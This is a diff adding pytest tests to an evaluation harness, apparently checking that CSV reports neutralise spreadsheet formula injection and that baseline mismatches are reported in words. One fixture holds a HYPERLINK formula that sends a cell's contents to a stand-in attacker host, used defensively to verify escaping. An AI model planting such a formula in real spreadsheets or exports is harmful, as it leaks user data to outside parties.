@@ -231,3 +231,34 @@ def test_pages_are_self_contained(tmp_path, report_root):
         assert not [attrs for tag, attrs in tags if tag in ("script", "link", "iframe")
                     and ("src" in attrs or "href" in attrs)], page
         assert "http://" not in page.read_text() and "https://" not in page.read_text(), page
+
+
+def test_results_csv_cannot_smuggle_a_spreadsheet_formula(tmp_path, report_root):
+    import doctest
+
+    import harness.store
+
+    assert doctest.testmod(harness.store).failed == 0
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
+    texts = [formula, "-5 stars, would not buy again", "@everyone look", "The box weighs 2 kg."]
+    directory = write_synthetic_report(report_root, synthetic_result(tmp_path, 8, texts=texts))
+    with (directory / "results.csv").open(encoding="utf-8", newline="") as handle:
+        cells = [row["text"] for row in csv.DictReader(handle)][:4]
+    assert cells == ["'" + formula, "'-5 stars, would not buy again", "'@everyone look",
+                     "The box weighs 2 kg."]
+    jsonl = [json.loads(line) for line in (directory / "results.jsonl").read_text().splitlines()]
+    assert [row["input"]["text"] for row in jsonl][:4] == texts  # the data itself is verbatim
+
+
+def test_a_baseline_from_another_limit_says_so_in_words(tmp_path):
+    from dataclasses import replace
+
+    from harness.store import baseline_mismatch
+
+    result = synthetic_result(tmp_path, 4)
+    limited = replace(result, spec=replace(result.spec, limit=20))
+    baseline = {"model": result.spec.model, "mode": result.spec.mode,
+                "split": result.spec.split, "limit": None}
+    assert baseline_mismatch(baseline, result) == ""
+    assert baseline_mismatch(baseline, limited) == \
+        "baseline was recorded with limit none (all examples) vs 20"
